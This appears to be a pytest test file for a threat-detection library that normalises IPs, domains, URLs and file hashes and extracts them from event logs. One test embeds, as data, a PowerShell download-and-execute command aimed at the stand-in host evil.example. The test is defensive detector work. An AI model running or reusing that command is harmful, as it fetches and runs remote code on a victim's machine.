"""Observables are typed and normalised, indicators by the same rules; what names nobody is none."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.ioc.observables import MAX_OBSERVABLES, address, domain, file_hash, url
from tests.parsing import event


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("10.0.0.1", ("ipv4", "10.0.0.1")),
        (" 203.0.113.9 ", ("ipv4", "203.0.113.9")),
        ("::ffff:203.0.113.9", ("ipv4", "203.0.113.9")),
        ("[2001:DB8:0:0::1]", ("ipv6", "2001:db8::1")),
        ("fe80::1%eth0", ("ipv6", "fe80::1")),
        ("\\\\10.0.0.1", ("ipv4", "10.0.0.1")),
        ("010.0.0.1", None),
        ("10.0.0", None),
        ("10.0.0.1:443", None),
        ("10.0.0.0/8", None),
        ("localhost", None),
        ("", None),
        ("1\x002", None),
    ],
)
def test_addresses_have_one_spelling(text: str, meant: tuple[str, str] | None) -> None:
    assert address(text) == meant


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("Evil.Example.", "evil.example"),
        ("_ldap._tcp.dc.bank.example", "_ldap._tcp.dc.bank.example"),
        ("қорған.қаз", "xn--80a0abi92bob.xn--80ao21a"),
        ("localhost", None),
        ("203.0.113.9", None),
        ("a..b", None),
        ("-a.example", None),
        ("a b.example", None),
        ("a." * 200 + "example", None),
        ("ß" * 300 + ".example", None),
        ("", None),
    ],
)
def test_domains_are_lower_case_punycode_of_two_labels(text: str, meant: str | None) -> None:
    found = domain(text)
    assert (found.value if found else None) == meant


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("HTTPS://Evil.Example:443/A?b=1#c", "https://evil.example/A?b=1"),
        ("http://evil.example", "http://evil.example/"),
        ("http://evil.example.:8080/x", "http://evil.example:8080/x"),
        ("http://user:secret@evil.example/x", "http://evil.example/x"),
        ("http://[2001:DB8::1]:80/x", "http://[2001:db8::1]/x"),
        ("http://evil.example:99999/", None),
        ("http://[::1/", None),
        ("http://", None),
        ("evil.example/x", None),
        ("http://" + "a" * 3000, None),
    ],
)
def test_urls_have_one_spelling_and_no_secret(text: str, meant: str | None) -> None:
    found = url(text)
    assert (found.value if found else None) == meant


@pytest.mark.parametrize(
    ("text", "kind"),
    [("A1" * 16, "md5"), ("a1" * 20, "sha1"), ("a1" * 32, "sha256"), ("a1" * 64, "sha512"),
     ("0" * 32, None), ("zz" * 16, None), ("a1" * 17, None), ("", None)],
)  # fmt: skip
def test_a_digests_type_is_told_by_its_length(text: str, kind: str | None) -> None:
    found = file_hash(text)
    assert (found.type if found else None) == kind
    assert found is None or found.value == text.lower()


@given(st.text(max_size=60))
def test_normalising_twice_changes_nothing(text: str) -> None:
    """An indicator's value, normalised once, must equal an observable's."""
    for normalise in (address, domain, url, file_hash):
        found = normalise(text)
        assert found is None or normalise(found.value) == found


@given(st.sampled_from(["http", "https", "ftp"]), st.text(max_size=30), st.text(max_size=30))
def test_every_url_normalises_to_itself(scheme: str, host: str, path: str) -> None:
    found = url(f"{scheme}://{host}/{path}")
    assert found is None or url(found.value) == found


@pytest.mark.parametrize("text", ["127.0.0.1", "0.0.0.0", "255.255.255.255", "::1", "::", "::ffff:127.0.0.1", "-"])
def test_addresses_of_nobody_are_no_observables(text: str) -> None:
    assert event({"EventID": 3, "Channel": "x", "SourceIp": text, "DestinationIp": text}).observables == ()


def test_urls_inside_a_command_line_and_their_hosts_are_taken() -> None:
    line = "powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); curl https://203.0.113.9/x"
    assert event({"EventID": 1, "Channel": "x", "CommandLine": line}).observables == (
        ("domain", "evil.example"),
        ("ipv4", "203.0.113.9"),
        ("url", "http://evil.example/a.ps1"),
        ("url", "https://203.0.113.9/x"),
    )


def test_one_record_yields_a_bounded_number() -> None:
    line = " ".join(f"http://h{n}.example/" for n in range(1000))
    assert len(event({"EventID": 1, "Channel": "x", "CommandLine": line}).observables) == MAX_OBSERVABLES


def test_a_flood_of_one_type_hides_no_other() -> None:
    line = " ".join(f"http://h{n}.example/" for n in range(1000))
    hashes = f"MD5={'a1' * 16},SHA256={'a1' * 32},IMPHASH={'a1' * 16}"
    found = event(
        {"EventID": 1, "Channel": "x", "CommandLine": line, "Hashes": hashes, "SourceIp": "10.0.0.9"}
    ).observables
    assert len(found) == MAX_OBSERVABLES
    assert {one.type for one in found} == {"domain", "imphash", "ipv4", "md5", "sha256", "url"}
    assert list(found) == sorted(set(found))
